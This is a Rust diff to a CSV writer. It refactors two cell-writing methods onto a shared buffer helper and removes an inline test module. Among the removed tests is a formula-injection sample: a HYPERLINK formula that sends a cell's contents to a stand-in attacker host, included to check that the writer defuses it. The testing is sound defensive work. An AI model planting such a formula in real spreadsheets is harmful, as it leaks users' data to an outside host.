@@ -91,26 +91,32 @@ impl Line {
 
     /// Writes `value` as it displays, as the next cell.
     pub fn shown(&mut self, value: impl Display) {
-        let mut scratch = std::mem::take(&mut self.scratch);
-        scratch.clear();
-        // Writing to a String cannot fail.
-        let _ = write!(scratch, "{value}");
-        self.cell(&scratch);
-        self.scratch = scratch;
+        self.formatted(|text| {
+            // Writing to a String cannot fail.
+            let _ = write!(text, "{value}");
+        });
     }
 
     /// Writes `parts` joined by `;` as the next cell.
     pub fn joined<'a>(&mut self, parts: impl IntoIterator<Item = &'a str>) {
-        let mut scratch = std::mem::take(&mut self.scratch);
-        scratch.clear();
-        for (i, part) in parts.into_iter().enumerate() {
-            if i > 0 {
-                scratch.push(';');
+        self.formatted(|text| {
+            for (i, part) in parts.into_iter().enumerate() {
+                if i > 0 {
+                    text.push(';');
+                }
+                text.push_str(part);
             }
-            scratch.push_str(part);
-        }
-        self.cell(&scratch);
-        self.scratch = scratch;
+        });
+    }
+
+    /// Writes the text `write` makes as the next cell, made in a buffer
+    /// kept from one cell to the next.
+    fn formatted(&mut self, write: impl FnOnce(&mut String)) {
+        let mut text = std::mem::take(&mut self.scratch);
+        text.clear();
+        write(&mut text);
+        self.cell(&text);
+        self.scratch = text;
     }
 
     /// Writes a timestamp as the next cell, as JSON shows it
@@ -205,160 +211,4 @@ fn is_number(cell: &str) -> bool {
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
-
-    fn line(cells: &[&str]) -> String {
-        let mut line = Line::default();
-        for cell in cells {
-            line.cell(cell);
-        }
-        line.end();
-        String::from_utf8(line.into_bytes()).unwrap()
-    }
-
-    #[test]
-    fn csv_cells_a_spreadsheet_would_run_are_led_by_a_quote() {
-        for (cell, written) in [
-            (
-                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")",
-                "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"x\"\")\"",
-            ),
-            ("+33 3 20 21 22 23", "'+33 3 20 21 22 23"),
-            ("-1+1", "'-1+1"),
-            ("@SUM(A1)", "'@SUM(A1)"),
-            ("\tx", "'\tx"),
-            ("\rx", "\"'\rx\""),
-            ("-", "'-"),
-            ("-inf", "'-inf"),
-            ("-3.5", "-3.5"),
-            ("-12", "-12"),
-            ("1e-7", "1e-7"),
-            ("Lille = Rijsel", "Lille = Rijsel"),
-        ] {
-            assert_eq!(line(&[cell, "x"]), format!("{written},x\r\n"), "{cell:?}");
-        }
-    }
-
-    /// The cells the `csv` crate writes (RFC 4180, quoted only where
-    /// needed), each defused first: what this writer replaced.
-    fn by_the_csv_crate(cells: &[&str]) -> String {
-        let mut writer = csv::WriterBuilder::new()
-            .terminator(csv::Terminator::CRLF)
-            .from_writer(Vec::new());
-        let defused: Vec<String> = cells
-            .iter()
-            .map(|c| match needs_defusing(c) {
-                true => format!("'{c}"),
-                false => c.to_string(),
-            })
-            .collect();
-        writer.write_record(&defused).unwrap();
-        String::from_utf8(writer.into_inner().unwrap()).unwrap()
-    }
-
-    #[test]
-    fn lines_are_written_as_the_csv_crate_writes_them() {
-        let cells = [
-            "",
-            "plain",
-            "a,b",
-            "say \"hi\"",
-            "\"",
-            "\"\"",
-            "two\r\nlines",
-            "line\nfeed",
-            "carriage\rreturn",
-            "=1+1",
-            "-3.5",
-            "\r",
-            "é, ü; ß",
-            "'already'",
-            ";",
-            " space ",
-        ];
-        for a in cells {
-            assert_eq!(line(&[a]), by_the_csv_crate(&[a]), "{a:?}");
-            for b in cells {
-                assert_eq!(line(&[a, b]), by_the_csv_crate(&[a, b]), "{a:?} {b:?}");
-                assert_eq!(
-                    line(&[b, a, ""]),
-                    by_the_csv_crate(&[b, a, ""]),
-                    "{b:?} {a:?}"
-                );
-            }
-        }
-    }
-
-    #[test]
-    fn any_cells_are_written_as_the_csv_crate_writes_them() {
-        use proptest::prelude::*;
-        let cell = proptest::string::string_regex("[a-z0-9,\"\r\n=+@\t' .;-]{0,40}").unwrap();
-        let cells = proptest::collection::vec(cell, 0..=5);
-        proptest::test_runner::TestRunner::default()
-            .run(&cells, |cells| {
-                let cells: Vec<&str> = cells.iter().map(String::as_str).collect();
-                prop_assert_eq!(line(&cells), by_the_csv_crate(&cells));
-                Ok(())
-            })
-            .unwrap();
-    }
-
-    #[test]
-    fn days_and_integers_are_written_as_they_display() {
-        let day = |y, m, d| chrono::NaiveDate::from_ymd_opt(y, m, d).unwrap();
-        for day in [
-            day(2010, 2, 12),
-            day(0, 1, 1),
-            day(9999, 12, 31),
-            day(-5, 3, 4),
-            day(12345, 6, 7),
-        ] {
-            let mut line = Line::default();
-            line.day(&day);
-            line.end();
-            assert_eq!(
-                line.into_bytes(),
-                self::line(&[&day.to_string()]).into_bytes(),
-                "{day}"
-            );
-        }
-        for n in [0, 7, -12, i64::MIN, i64::MAX] {
-            let mut line = Line::default();
-            line.integer(&n);
-            line.end();
-            assert_eq!(
-                line.into_bytes(),
-                self::line(&[&n.to_string()]).into_bytes(),
-                "{n}"
-            );
-        }
-    }
-
-    #[test]
-    fn stamps_are_written_as_json_shows_them() {
-        let day = |y, m, d| chrono::NaiveDate::from_ymd_opt(y, m, d).unwrap();
-        for at in [
-            day(2026, 11, 26).and_hms_opt(9, 30, 0).unwrap(),
-            day(2008, 1, 1)
-                .and_hms_micro_opt(0, 0, 59, 999_999)
-                .unwrap(),
-            day(0, 1, 1).and_hms_opt(23, 59, 59).unwrap(),
-            day(9999, 12, 31).and_hms_opt(23, 59, 59).unwrap(),
-            day(-1, 12, 31).and_hms_opt(1, 2, 3).unwrap(),
-            day(10000, 1, 1).and_hms_opt(0, 0, 0).unwrap(),
-            // A leap second.
-            day(2016, 12, 31)
-                .and_hms_milli_opt(23, 59, 59, 1_500)
-                .unwrap(),
-        ] {
-            let mut line = Line::default();
-            line.stamp(&at);
-            line.end();
-            let mut shown = Line::default();
-            shown.cell(&crate::time::shown(&at));
-            shown.end();
-            assert_eq!(line.into_bytes(), shown.into_bytes(), "{at:?}");
-        }
-    }
-}
+mod tests;
